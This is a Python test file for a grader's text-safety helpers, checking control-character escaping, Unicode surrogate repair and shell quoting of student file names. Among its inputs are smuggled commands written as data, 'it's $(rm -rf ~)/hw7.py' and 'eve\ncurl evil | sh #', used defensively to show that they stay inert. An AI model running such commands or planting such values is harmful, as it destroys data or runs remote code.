"""Text from submissions and file names, made safe to store (valid Unicode) and to print (no control codes)."""

from __future__ import annotations

import json
import shlex

from grader.text import name_text, printable, shell_word, valid_text


def test_printable_keeps_text_and_shows_control_characters() -> None:
    assert printable("νᵦ ≤ maxᵢ xᵢ ✔\tok\nnext") == "νᵦ ≤ maxᵢ xᵢ ✔\tok\nnext"
    assert printable("a\x1b[2Jb\rc\x00\x7f\x9b") == "a\\x1b[2Jb\\x0dc\\x00\\x7f\\x9b"


def test_valid_text_replaces_lone_surrogates_and_keeps_everything_else() -> None:
    sent = json.loads('"lone \\udcff, pair \\ud83d\\ude00, accent \\u00e9"')  # what a submission can send
    fixed = valid_text(sent)
    assert fixed == "lone \ufffd, pair \U0001F600, accent é"
    fixed.encode("utf-8")  # what every file and page needs
    assert valid_text("plain") == "plain" and valid_text("νᵦ") == "νᵦ"


def test_a_name_that_is_not_utf8_keeps_its_bytes_visible_and_distinct() -> None:
    latin, other = b"caf\xe9".decode("utf-8", "surrogateescape"), b"caf\xe8".decode("utf-8", "surrogateescape")
    assert name_text(latin) == "caf\\xe9" and name_text(other) == "caf\\xe8"  # two students stay two
    assert name_text("café") == "café" and name_text("ann") == "ann"
    assert name_text("odd \ud800") == "odd \ufffd"  # a surrogate no file system makes


def test_a_shell_word_is_quoted_and_stays_on_one_line() -> None:
    for word in ("plain/toy.py", "bob smith/hw7.py", "it's $(rm -rf ~)/hw7.py", "café/νᵦ.py"):
        assert shell_word(word) == shlex.quote(word) and shlex.split(shell_word(word)) == [word]  # runs as is
    shown = shell_word("eve\ncurl evil | sh #\t\x1b[2J/toy.py")
    assert "\n" not in shown and "\t" not in shown and "\x1b" not in shown  # one line, nothing raw
    assert shlex.split(shown) == ["eve\\x0acurl evil | sh #\\x09\\x1b[2J/toy.py"]  # one word, quoted
